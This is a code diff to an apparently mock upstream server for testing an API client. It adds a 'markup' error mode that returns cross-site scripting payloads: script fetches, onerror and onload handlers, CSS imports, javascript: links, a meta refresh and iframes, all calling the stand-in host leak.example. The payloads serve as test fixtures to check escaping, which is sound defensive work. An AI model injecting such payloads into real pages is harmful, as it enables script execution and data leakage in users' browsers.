@@ -68,6 +68,16 @@ bool refuse(const std::string& mode, const std::string& model, int max_tokens,
     std::string msg(30000, 'x');
     for (std::size_t i = 0; i < msg.size(); i += 40) msg.replace(i, 13, "(request id: ");
     send_json(res, 500, error_body(msg, "upstream_error", "upstream_failure"));
+  } else if (mode == "markup") {  // hostile: HTML, SVG and CSS that would load or run if not escaped
+    res.set_header("X-Request-Id", "req_\"><img src=http://leak.example/id.png>");
+    send_json(res, 500, error_body(
+        "upstream said </title></style></svg><script>fetch('http://leak.example/s')</script>"
+        "<img src=http://leak.example/i.png onerror=alert(1)><svg onload=alert(2)><image href=http://leak.example/svg.png/></svg>"
+        "<style>@import url(http://leak.example/c.css);body{background:url(http://leak.example/b.png)}</style>"
+        "<a href=\"javascript:alert(3)\">help</a><meta http-equiv=refresh content=\"0;url=http://leak.example/m\">"
+        "<iframe src=http://leak.example/f></iframe><link rel=stylesheet href=http://leak.example/l.css>"
+        "&lt;script&gt; ' \" <!-- ]]> see https://leak.example/docs",
+        "upstream_error", "<b>upstream</b>"));
   } else if (mode == "redirect") {  // a completion sent elsewhere with a 307
     res.status = 307;
     res.set_header("Location", "https://elsewhere.example/v1/chat/completions");
